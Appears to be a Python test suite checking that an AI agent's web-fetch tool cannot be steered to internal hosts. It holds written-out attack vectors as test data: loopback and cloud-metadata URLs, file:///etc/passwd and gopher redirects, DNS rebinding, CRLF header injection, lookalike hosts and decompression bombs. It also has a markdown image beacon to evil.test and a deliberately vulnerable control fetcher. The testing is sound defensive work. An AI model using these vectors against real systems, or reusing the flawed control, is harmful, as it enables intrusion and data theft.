"""Ways to make a tool that reads the web read what is inside: no connection there is ever made."""

from __future__ import annotations

import ipaddress
import os
import socket
import tempfile
import time
from collections.abc import Awaitable, Callable, Iterable, Mapping
from contextlib import suppress
from functools import partial
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import anyio
import anyio.abc
import httpcore2
import httpx2
import trustme

from handrail import Call, Executor, FailureKind, Hook, Refused, Result, Tool, Toolset, tool
from handrail.approvals import callback, render_request
from handrail.net import Guard
from handrail.permissions import Allow, Pending
from handrail.policy import Rulebook
from handrail.tools import web_fetch
from net.web_stage import (
    INSIDE,
    PUBLIC,
    Script,
    Web,
    alternating,
    client_side,
    packed,
    redirect,
    reply,
    server_side,
)
from vectors.stage import rules

Make = Callable[..., Tool[..., Any]]
Check = Callable[[Make], Awaitable[bool]]

TRIES = {"brief": 50, "soak": 10_000}.get(os.environ.get("HANDRAIL_PROFILE", "quick"), 300)
FAILED = (FailureKind.BAD_ARGS, FailureKind.DENIED, FailureKind.FAILED)


async def fetched(given: Tool[..., Any], url: str, **options: Any) -> Result:
    async with Executor(Toolset(given), hooks=[Hook(frames=False)], **options) as executor:
        return await executor.run(Call("web_fetch", {"url": url}, "1"))


def clean(web: Web, *results: Result) -> bool:
    """Whether nobody was inside, and nothing of the inside was told."""
    return web.canary.connections == 0 and not any(INSIDE in one.text for one in results)


def refused(result: Result) -> bool:
    """Whether it was, and in words that say why."""
    return result.failure is not None and result.failure.kind in FAILED and len(result.text) > 20


async def _nothing_is_reached(url: str, make: Make) -> bool:
    with Web() as web:
        result = await fetched(make(**web.options()), url)
        return clean(web, result) and web.site.connections == 0 and refused(result)


async def _public_only(url: str, make: Make) -> bool:
    with Web() as web:
        result = await fetched(make(**web.options()), url)
        return (
            clean(web, result) and result.text.endswith("hello") and "pub.test" in web.site.asked[0]
        )


async def _rebinding(make: Make) -> bool:
    """060: another address each time that it is looked up, in either order."""
    good = 0
    with Web() as web:
        for answers in ((PUBLIC, "127.0.0.1"), ("127.0.0.1", PUBLIC)):
            given = make(**web.options(alternating(*answers)))
            async with Executor(Toolset(given)) as executor:
                for turn in range(TRIES // 2):
                    call = Call("web_fetch", {"url": "http://rebind.test/"}, str(turn))
                    result = await executor.run(call)
                    good += result.failure is None
                    if not clean(web, result):
                        return False
        return good >= TRIES // 2 - 1


async def _rebinding_between_hops(make: Make) -> bool:
    """061: the same host, elsewhere by the time of its redirect."""
    with Web({"/": redirect("/?next")}) as web:
        resolver = alternating(PUBLIC, "127.0.0.1")
        result = await fetched(make(**web.options(resolver)), "http://rebind.test/")
        return clean(web, result)


def _redirected(target: str) -> Check:
    """062 to 065: nothing is followed there, nor is it read when a model goes on to it."""

    async def check(make: Make) -> bool:
        with Web({"/": redirect(target)}) as web:
            given = make(**web.options())
            first = await fetched(given, "http://pub.test/")
            second = await fetched(given, target)
            asked = len(web.site.asked)
            return clean(web, first, second) and asked == 1 and refused(second)

    return check


def _led_on(scripts: Mapping[str, Script], most: int) -> Check:
    """066, 067: it ends, without a page."""

    async def check(make: Make) -> bool:
        with Web(scripts) as web:
            result = await fetched(make(**web.options()), "http://pub.test/0")
            ended = refused(result) or "Not followed" in result.text
            return ended and len(web.site.asked) <= most

    return check


ALLOWED = '[[rule]]\ndecide = "allow"\naccess = "write net:{}/**"\n'


def _asked(allowed: str, honest: str, *tricks: str) -> Check:
    """085 to 089: an allowed host is no other, however alike; nothing is looked up, either."""

    async def check(make: Make) -> bool:
        looked: list[str] = []

        def resolver(host: str, _port: int) -> list[str]:
            looked.append(host)
            return [PUBLIC]

        with Web(secure=server_side("*.test")) as web:
            options = {"policy": Rulebook(rules(ALLOWED.format(allowed)))}
            given = make(**web.options(resolver))
            async with Executor(Toolset(given), **options) as executor:

                def decision(url: str) -> Any:
                    return executor.explain(Call("web_fetch", {"url": url}, "1")).decision

                results = [
                    await executor.run(Call("web_fetch", {"url": one}, "1")) for one in tricks
                ]
                # it is asked about, or refused before anyone is asked
                judged = [not isinstance(decision(one), Allow) for one in tricks]
                free = isinstance(decision(honest), Allow)
            return free and all(judged) and all(map(refused, results)) and not looked

    return check


async def _another_host_is_asked_about(make: Make) -> bool:
    """068: a redirect carries no permission along."""
    with Web({"/": redirect("http://other.test/x")}) as web:
        policy = Rulebook(rules(ALLOWED.format("pub.test")))
        given = make(**web.options())
        first = await fetched(given, "http://pub.test/", policy=policy)
        second = await fetched(given, "http://other.test/x", policy=policy)
        told = first.failure is None and "http://other.test/x" in first.text
        return told and refused(second) and len(web.site.asked) == 1 and clean(web, first, second)


REFRESH = b"""<html><head><meta http-equiv="refresh" content="0;url=http://127.0.0.1/"></head>
<body><script>location = "http://127.0.0.1/"</script><p>Here.</p></body></html>"""


async def _a_page_does_not_lead_on(make: Make) -> bool:
    """069."""
    with Web({"/": reply(REFRESH, "text/html")}) as web:
        result = await fetched(make(**web.options()), "http://pub.test/")
        good = result.failure is None and result.text.endswith("\n\nHere.")
        return good and clean(web, result) and len(web.site.asked) == 1


async def _no_way_down(make: Make) -> bool:
    """070: what began encrypted stays so."""
    with Web({"/": redirect("http://pub.test/plain")}, secure=server_side("pub.test")) as web:
        result = await fetched(make(**web.options()), "https://pub.test/")
        return refused(result) and len(web.secure.asked) == 1 and web.site.connections == 0


async def _lines_do_not_break(make: Make) -> bool:
    """076: nothing in a URL becomes a header."""
    urls = [
        "http://pub.test/%0d%0aX: y",
        "http://pub.test/%0d%0aX:%20y?%0d%0aZ:1",
        "http://pub.test/\r\nX: y",
    ]
    with Web() as web:
        results = [await fetched(make(**web.options()), one) for one in urls]
        heads = [line for head in web.site.asked for line in head.split("\r\n")[1:]]
        return clean(web, *results) and not any(one.startswith(("X:", "Z:")) for one in heads)


class environment:  # noqa: N801  reads as a statement
    """Some variables, for a while."""

    def __init__(self, **variables: str) -> None:
        self._before = dict(os.environ)
        self._variables = variables

    def __enter__(self) -> None:
        os.environ.update(self._variables)

    def __exit__(self, *_: object) -> None:
        os.environ.clear()
        os.environ.update(self._before)


async def _no_proxy_is_asked(make: Make) -> bool:
    """090."""
    with Web(secure=server_side("pub.test")) as web:
        place = f"http://127.0.0.1:{web.canary.port}"
        kinds = ("http_proxy", "https_proxy", "all_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY")
        with environment(**dict.fromkeys(kinds, place)):
            given = make(**web.options())
            results = [await fetched(given, f"{one}://pub.test/") for one in ("http", "https")]
        return clean(web, *results) and all(one.text.endswith("hello") for one in results)


async def _no_password_is_looked_for(make: Make) -> bool:
    """091."""
    with tempfile.TemporaryDirectory() as home, Web() as web:
        file = Path(home) / ".netrc"
        file.write_text("machine pub.test login u password p\n", encoding="utf-8")
        file.chmod(0o600)
        with environment(HOME=home, NETRC=str(file)):
            result = await fetched(make(**web.options()), "http://pub.test/")
        return result.failure is None and "uthorization" not in web.site.asked[0]


async def _nothing_is_carried_along(make: Make) -> bool:
    """092: no password and no cookie, to another host or to the same."""
    secret = {
        "Set_Cookie": "id=1; Path=/",
        "WWW_Authenticate": "Basic",
        "Authorization": "Basic eA==",
    }
    scripts = {"/a": redirect("/a/", **secret), "/a/": redirect("http://other.test/", **secret)}
    with Web(scripts) as web:
        given = make(**web.options())
        async with Executor(Toolset(given)) as executor:
            for url in ("http://pub.test/a", "http://other.test/b", "http://pub.test/c"):
                await executor.run(Call("web_fetch", {"url": url}, url))
        heads = "\n".join(web.site.asked).lower()
        return len(web.site.asked) == 4 and "authorization" not in heads and "cookie" not in heads


def memory(*, afresh: bool = False) -> int:
    """The most bytes that this process has held since it was last asked afresh."""
    if afresh:
        Path("/proc/self/clear_refs").write_text("5", encoding="ascii")
    status = Path("/proc/self/status").read_text(encoding="utf-8")
    return int(status.partition("VmHWM:")[2].split()[0]) * 1024


def _bounded(script: Script, within: float = 20.0) -> Check:
    """093, 096 to 099: it ends, in time and in space, whatever is sent."""

    async def check(make: Make) -> bool:
        with Web({"/": script}) as web:
            before, started = memory(afresh=True), time.monotonic()
            result = await fetched(make(**web.options(within=within)), "http://pub.test/")
            took, grown = time.monotonic() - started, memory() - before
            short = len(result.text) < 70_000
            return clean(web, result) and short and took < within + 2 and grown < 128 << 20

    return check


BOMB = packed(b"A" * (1 << 20), 200)
LINE = b"no end of it\n" * 5_000


def _endless(client: socket.socket) -> None:
    client.sendall(
        b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    while True:
        client.sendall(b"%x\r\n%s\r\n" % (len(LINE), LINE))


def _slow(client: socket.socket) -> None:
    client.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 1000\r\n\r\n")
    for _ in range(60):
        client.sendall(b"a")
        time.sleep(0.3)


def _long_head(client: socket.socket) -> None:
    client.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n")
    for _ in range(1_024):
        client.sendall(b"X-Filler: " + b"a" * 1_012 + b"\r\n")
    client.sendall(b"\r\nhello")


def _lying(client: socket.socket) -> None:
    client.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 10\r\n\r\n")
    while True:
        client.sendall(LINE)


def _unread(script: Script) -> Check:
    """094, 095, 100: what cannot be read safely, or at all, is not."""

    async def check(make: Make) -> bool:
        with Web({"/": script}) as web:
            result = await fetched(make(**web.options()), "http://pub.test/")
            return clean(web, result) and refused(result)

    return check


def _both(*checks: Check) -> Check:
    async def check(make: Make) -> bool:
        return all([await one(make) for one in checks])

    return check


ACTIVE = b"""<html><body><p>Seen.</p><script>canary()</script><style>canary{}</style>
<svg><script>canary()</script></svg><p hidden>canary</p><p style="display:none">canary</p></body></html>"""


async def _scripts_are_no_text(make: Make) -> bool:
    """101: of a page only what a reader would see; of a picture its source, which runs nowhere."""
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'
    scripts = {"/page": reply(ACTIVE, "text/html"), "/svg": reply(drawing, "image/svg+xml")}
    with Web(scripts) as web:
        given = make(**web.options())
        page = await fetched(given, "http://pub.test/page")
        svg = await fetched(given, "http://pub.test/svg")
        seen = page.text.endswith("\n\nSeen.")
        return seen and not svg.parts and svg.text.startswith("http://pub.test/svg\n200 OK")


def _distrusted(secure: Callable[[], Any]) -> Check:
    """102, 103: what is connected to is an address; what must be proved is the name."""

    async def check(make: Make) -> bool:
        with Web(secure=secure()) as web:
            result = await fetched(make(**web.options()), "https://pub.test/")
            return refused(result) and not web.secure.asked

    return check


BEACON = "![x](http://evil.test/?q=secret)"


async def _no_picture_is_shown(make: Make) -> bool:
    """105: neither of the page's own, nor one that is written in its text."""
    html = (
        f'<p>a {BEACON}</p><img src="http://evil.test/?q=1" alt="x"><picture><img src=/y></picture>'
    )
    scripts = {"/page": reply(html.encode(), "text/html"), "/text": reply(BEACON.encode())}
    with Web(scripts) as web:
        given = make(**web.options())
        results = [await fetched(given, f"http://pub.test/{one}") for one in ("page", "text")]
        return all("![" not in one.text and one.failure is None for one in results)


async def _all_of_it_is_shown(make: Make) -> bool:
    """106: whoever is asked sees every character that would leave."""
    url = "http://pub.test/?d=" + "".join(f"{n:04x}" for n in range(512))
    shown: list[str] = []

    def person(pending: Pending) -> bool:
        shown.extend(row.text.lstrip("\u250a\u2502 ") for row in render_request(pending).lines)
        return False

    with Web() as web:
        given = make(**web.options())
        result = await fetched(given, url, policy=Rulebook(), approvals=callback(person))
        return refused(result) and web.site.connections == 0 and url in "".join(shown)


def hops(count: int) -> dict[str, Script]:
    return {f"/{n}": redirect(f"/{n + 1}") for n in range(count)}


CHECKS: dict[str, Check] = {
    "058": partial(_nothing_is_reached, "http://int.test/"),
    "059": partial(_nothing_is_reached, "http://multi.test/"),
    "060": _rebinding,
    "061": _rebinding_between_hops,
    "062": _redirected("http://127.0.0.1/"),
    "063": _redirected("http://int.test/"),
    "064": _redirected("file:///etc/passwd"),
    "065": _both(
        *map(_redirected, ("gopher://127.0.0.1:25/", "dict://int.test/", "ftp://int.test/"))
    ),
    "066": _both(_led_on(hops(11), 6), _led_on({"/0": redirect("/0?on")}, 6)),
    "067": _both(
        _led_on({"/0": redirect("/1"), "/1": redirect("/0")}, 6),
        _led_on({"/0": redirect("/0/"), "/0/": redirect("/0")}, 6),
    ),
    "068": _another_host_is_asked_about,
    "069": _a_page_does_not_lead_on,
    "070": _no_way_down,
    "074": partial(_public_only, "http://pub.test#@127.0.0.1/"),
    "076": _lines_do_not_break,
    "084": _both(
        *(partial(_nothing_is_reached, f"http://pub.test:{port}/") for port in (0, 65_536, 99_999))
    ),
    "085": _asked(
        "docs.python.org", "https://docs.python.org/3/", "https://docs.python.org.evil.test/3/"
    ),
    "086": _asked("python.org", "https://python.org/", "https://evilpython.org/"),
    "087": _asked(
        "huggingface.co/443/good",
        "https://huggingface.co/good/model?x=/../y",
        "https://huggingface.co/evil/model",
        "https://huggingface.co/good/../evil/model",
        "https://huggingface.co/good/%2e%2e/evil/model",
        "https://huggingface.co/good/..%2fevil/model",
        "https://huggingface.co/goods",
        "http://huggingface.co/good/model",
        "https://huggingface.co/evil?/../../good/x",
    ),
    "088": _asked("python.org", "https://python.org/", "https://pyth\u043en.org/"),
    "089": _asked(
        "python.org",
        "https://python.org/",
        "https://xn--pythn-mye.org/",
        "https://xn--python-.org/",
    ),
    "090": _no_proxy_is_asked,
    "091": _no_password_is_looked_for,
    "092": _nothing_is_carried_along,
    "093": _bounded(reply(BOMB, Content_Encoding="gzip")),
    "094": _both(
        *(
            _unread(reply(packed(b"x" * 99), Content_Encoding=one))
            for one in ("br", "zstd", "deflate", "compress")
        )
    ),
    "095": _unread(reply(packed(packed(packed(b"x"))), Content_Encoding="gzip, gzip, gzip")),
    "096": _bounded(_endless),
    "097": _bounded(_slow, within=0.5),
    "098": _both(_bounded(_long_head), _unread(_long_head)),
    "099": _bounded(_lying),
    "100": _both(
        _unread(reply(b"\x7fELF\0\0", "application/octet-stream")), _unread(reply(b"a\0b"))
    ),
    "101": _scripts_are_no_text,
    "102": _distrusted(partial(server_side, "other.test")),
    "103": _distrusted(lambda: server_side("pub.test", by=trustme.CA())),
    "104": partial(_nothing_is_reached, "http://169.254.169.254/"),
    "105": _no_picture_is_shown,
    "106": _all_of_it_is_shown,
}


def holds(vector: dict[str, Any], make: Make = web_fetch) -> bool:
    """Whether the tool reads what is public, and nothing else is even connected to."""
    check = CHECKS.get(vector["id"].removeprefix("ssrf-"))
    check = check or partial(_nothing_is_reached, vector["input"]["url"])

    async def run() -> bool:
        with anyio.fail_after(50):
            return await check(make)

    return anyio.run(run)


class _Careless(httpcore2.AsyncNetworkBackend):
    """The control: looks a name up again when it connects."""

    def __init__(self, guard: Guard, connect: Any) -> None:
        self._guard, self._connect = guard, connect

    async def connect_tcp(self, host: str, port: int, **_: Any) -> Any:
        stream = await self._connect(self._guard.resolver(host, port)[0], port)
        return _Stream(stream)


class _Stream(httpcore2.AsyncNetworkStream):
    def __init__(self, stream: anyio.abc.ByteStream) -> None:
        self._stream = stream

    async def read(self, max_bytes: int, **_: Any) -> bytes:
        with suppress(anyio.EndOfStream):
            return await self._stream.receive(max_bytes)
        return b""

    async def write(self, buffer: bytes, **_: Any) -> None:
        await self._stream.send(buffer)

    async def aclose(self) -> None:
        await anyio.aclose_forcefully(self._stream)


def check_then_get(*, guard: Guard, connect: Any, **_: Any) -> Tool[..., Any]:
    """The control: the address is checked with ``is_global``, and then a client gets the page."""

    @tool
    async def web_fetch(url: str) -> str:
        """Get a page."""
        host = urlsplit(url).hostname or ""
        if not ipaddress.ip_address(guard.resolver(host, 80)[0]).is_global:
            raise Refused(f"{host} is not on the public internet.")
        transport = httpx2.AsyncHTTPTransport(verify=client_side())
        transport._pool = httpcore2.AsyncConnectionPool(  # noqa: SLF001  it has no option for that
            network_backend=_Careless(guard, connect)
        )
        async with httpx2.AsyncClient(
            transport=transport, follow_redirects=True, timeout=0.5
        ) as client:
            return (await client.get(url)).text

    return web_fetch


ENDLESS = {"ssrf-096", "ssrf-097"}
"""The control would read for ever, or nearly so."""


def control_caught(vectors: Iterable[dict[str, Any]]) -> int:
    """How many vectors pass with a tool that checks first and gets afterwards."""
    return sum(_fails(one) for one in vectors if one["id"] not in ENDLESS)


def _fails(vector: dict[str, Any]) -> bool:
    try:
        return not holds(vector, check_then_get)
    except Exception:  # noqa: BLE001  a scenario that cannot go on as it should has failed, too
        return True


def html_of_fifty_megabytes() -> bool:
    """For format-013: however long a page is, the tool ends in time, and this process stays small."""
    page = b"<html><body>" + b"<div><p>word <b>word</b></p></div>" * 1_500_000

    async def run() -> bool:
        check = _bounded(reply(page, "text/html"), within=20.0)
        return await check(web_fetch)

    return anyio.run(run)
